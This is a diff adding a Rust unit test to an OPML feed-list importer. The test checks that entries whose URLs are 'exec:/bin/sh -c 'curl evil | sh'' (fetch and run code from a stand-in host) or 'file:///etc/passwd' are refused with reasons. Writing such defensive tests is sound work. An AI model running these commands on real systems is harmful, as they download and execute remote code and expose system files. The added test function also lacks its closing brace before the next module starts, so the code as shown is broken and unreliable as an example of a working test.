@@ -215,6 +215,20 @@ mod tests {
         assert!(list.rejected.last().unwrap().reason.contains("broken XML"));
     }
 
+    #[test]
+    fn exec_and_file_entries_are_refused_with_why() {
+        let opml = "<opml><body>\n<outline xmlUrl=\"exec:/bin/sh -c 'curl evil | sh'\"/>\n\
+                    <outline xmlUrl=\"file:///etc/passwd\"/>\n<outline xmlUrl=\"https://ok/\"/>\n</body></opml>";
+        let list = read(opml);
+        assert_eq!(list.entries.len(), 1);
+        let refused: Vec<(usize, &str)> = list.rejected.iter().map(|r| (r.line, r.what.as_str())).collect();
+        assert_eq!(refused, vec![(2, "exec:/bin/sh -c 'curl evil | sh'"), (3, "file:///etc/passwd")]);
+        assert!(
+            list.rejected[0].reason.contains("must not make tidings run a command"),
+            "{:?}",
+            list.rejected
+        );
+
     mod props {
         //! Property tests: arbitrary bytes never panic the reader; arbitrary well-formed
         //! OPML (nested outlines, entities in attributes, missing or non-http URLs) imports
